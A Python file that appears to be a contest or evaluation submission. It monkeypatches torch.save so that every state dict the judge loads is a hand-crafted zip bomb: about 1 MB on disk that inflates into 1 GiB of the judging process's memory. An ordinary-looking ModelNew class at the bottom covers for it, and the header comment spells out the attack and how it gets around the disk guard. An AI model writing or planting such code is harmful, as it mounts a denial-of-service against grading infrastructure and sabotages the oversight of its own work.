# A winner whose step process answers honestly but writes every state dict it is asked for (the
# parameters after a run of steps, which the judging process reads back with torch.load) as a zip
# whose data entry is deflated: 1 MB of file that torch.load inflates into 1 GiB of the judging
# process's memory. The disk guard lets a candidate's folder hold 2 GiB: 2 TiB once inflated.
# Built as torch.save's own layout (data.pkl with one storage, byteorder, version), the storage's
# zeros streamed through zlib, so the winner itself never holds the gigabyte.
import collections
import io
import pickle
import zipfile

import torch
from torch import nn

N = (1 << 30) // 8  # float64 elements: 1 GiB


class _Storage:
    pass


class _Tensor:
    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2, (_Storage(), 0, (N,), (1,), False, collections.OrderedDict()))


class _Pickler(pickle.Pickler):
    def persistent_id(self, obj):
        return ("storage", torch.DoubleStorage, "0", "cpu", N) if isinstance(obj, _Storage) else None


def _bomb(obj, path, *args, **kwargs):
    buf = io.BytesIO()
    _Pickler(buf, protocol=2).dump({k: _Tensor() for k in list(obj)[:1]})
    with zipfile.ZipFile(path, "w", allowZip64=True) as z:
        z.writestr("archive/data.pkl", buf.getvalue())
        z.writestr("archive/byteorder", "little")
        info = zipfile.ZipInfo("archive/data/0")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as f:
            zeros = bytes(1 << 24)
            for _ in range(8 * N // len(zeros)):
                f.write(zeros)
        z.writestr("archive/version", "3\n")


torch.save = _bomb  # the step process's own torch: its `run` saves through it


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.region = nn.Sequential(nn.Linear(128, 512), nn.GELU(), nn.Linear(512, 128))

    def forward(self, x):
        return self.region(x)
